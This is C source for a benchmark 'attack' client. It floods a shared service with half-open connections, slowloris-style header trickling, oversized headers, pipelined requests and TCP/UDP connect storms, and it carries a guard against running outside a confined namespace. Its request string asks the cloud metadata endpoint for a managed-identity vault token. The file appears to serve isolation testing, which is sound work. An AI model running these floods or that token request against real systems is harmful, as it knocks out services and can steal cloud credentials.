/*
 * A hostile client for benchmarks: what a pod can do to a service that it shares with others. Runs
 * until it is killed, one kind of attack at full speed (or with N connections that it keeps), and
 * prints "ready" once it is under way.
 *
 *	attack ADDRESS PORT KIND CONNECTIONS
 *
 *	half-open      opens connections and says nothing on them; whatever is closed is opened anew
 *	slow-headers   the same, and a byte of a header now and then on each
 *	big-headers    requests with a megabyte of headers, one after the other on each connection
 *	pipeline       requests without end on each connection, answers thrown away
 *	connects       opens and closes, as fast as it goes
 *	events         connects that are refused and recorded (UDP), as fast as it goes
 *
 * Refuses to run in a namespace that leads out of the machine, as ask.c.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>

#include "base/cleanup.h"
#include "netns/confined.h"

#define CONNECTIONS_MAX 16384

static const char request[] =
	"GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net HTTP/1.1\r\n"
	"Host: 169.254.169.254\r\nMetadata: true\r\n\r\n";
static const char header[] = "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nX-Header: ";

struct attack {
	struct sockaddr_in to;
	struct pollfd *conns;
	size_t n;
	char *block; /* what is sent, over and over */
	size_t block_len;
	size_t trickle;	   /* instead: so many bytes at a time */
	const char *begin; /* of each connection; NULL: nothing */
};

static int open_one(const struct attack *a, int type)
{
	int fd = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -errno;
	if (connect(fd, (const struct sockaddr *)&a->to, sizeof(a->to)) < 0 && errno != EINPROGRESS)
		fd = ig_close(fd);
	return fd;
}

static void say_ready(void)
{
	(void)printf("ready\n");
	(void)fflush(stdout);
}

static void flood(const struct attack *a, int type)
{
	struct linger now = {.l_onoff = 1};

	say_ready();
	for (;;) {
		int fd = open_one(a, type);

		if (fd < 0)
			continue;
		if (type == SOCK_STREAM) {
			struct pollfd p = {.fd = fd, .events = POLLOUT};

			(void)poll(&p, 1, 100);
			/* no TIME_WAIT: the ports would run out before the patience */
			(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		}
		(void)ig_close(fd);
	}
}

/* What came is thrown away; a connection that has ended is opened anew. */
static void tend(const struct attack *a, struct pollfd *conn)
{
	static char waste[65536];
	ssize_t n = conn->fd < 0 ? 0 : recv(conn->fd, waste, sizeof(waste), 0);

	if (n > 0 || (n < 0 && (errno == EAGAIN || errno == ENOTCONN)))
		return;
	conn->fd = ig_close(conn->fd);
	conn->fd = open_one(a, SOCK_STREAM);
	if (conn->fd >= 0 && a->begin)
		(void)send(conn->fd, a->begin, strlen(a->begin), MSG_NOSIGNAL);
}

static void push(const struct attack *a, const struct pollfd *conn)
{
	size_t len = a->trickle ? a->trickle : a->block_len;

	if (conn->fd >= 0 && len)
		(void)send(conn->fd, a->block, len, MSG_NOSIGNAL);
}

static void hold(const struct attack *a)
{
	const struct timespec pause = {.tv_nsec = 20000000};

	for (size_t round = 0;; round++) {
		for (size_t i = 0; i < a->n; i++) {
			tend(a, &a->conns[i]);
			push(a, &a->conns[i]);
		}
		if (round == 1)
			say_ready();
		if (!a->block_len || a->trickle)
			(void)nanosleep(&pause, NULL);
	}
}

/* As many copies of text as make up len bytes. */
static int fill(struct attack *a, const char *text, size_t len)
{
	size_t each = strlen(text);

	a->block = malloc(len + each);
	if (!a->block)
		return -ENOMEM;
	for (a->block_len = 0; a->block_len < len; a->block_len += each)
		memcpy(a->block + a->block_len, text, each);
	return 0;
}

static int run(struct attack *a, const char *kind)
{
	int r = 0;

	if (strcmp(kind, "connects") == 0)
		flood(a, SOCK_STREAM);
	if (strcmp(kind, "events") == 0)
		flood(a, SOCK_DGRAM);
	if (strcmp(kind, "slow-headers") == 0) {
		a->begin = header;
		a->trickle = 1;
		r = fill(a, "x", 1);
	} else if (strcmp(kind, "big-headers") == 0) {
		a->begin = header;
		r = fill(a, "y", 1024 * 1024);
	} else if (strcmp(kind, "pipeline") == 0) {
		r = fill(a, request, 32768);
	} else if (strcmp(kind, "half-open") != 0) {
		return -EINVAL;
	}
	if (r == 0)
		hold(a);
	return r;
}

int main(int argc, char **argv)
{
	struct rlimit files = {};
	struct attack a = {.to = {.sin_family = AF_INET}};
	unsigned int port;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &a.to.sin_addr) != 1 ||
		sscanf(argv[2], "%u", &port) != 1 || sscanf(argv[4], "%zu", &a.n) != 1 ||
		port > 65535 || a.n == 0 || a.n > CONNECTIONS_MAX) {
		(void)fprintf(stderr, "usage: attack ADDRESS PORT KIND CONNECTIONS\n");
		return 2;
	}
	if (netns_is_forbidden())
		return 99;
	a.to.sin_port = htons((uint16_t)port);
	(void)signal(SIGPIPE, SIG_IGN);
	(void)getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	(void)setrlimit(RLIMIT_NOFILE, &files);
	a.conns = calloc(a.n, sizeof(*a.conns));
	if (!a.conns)
		return 1;
	for (size_t i = 0; i < a.n; i++)
		a.conns[i].fd = -1;
	(void)run(&a, argv[3]);
	(void)fprintf(stderr, "attack: cannot run %s\n", argv[3]);
	return 1;
}
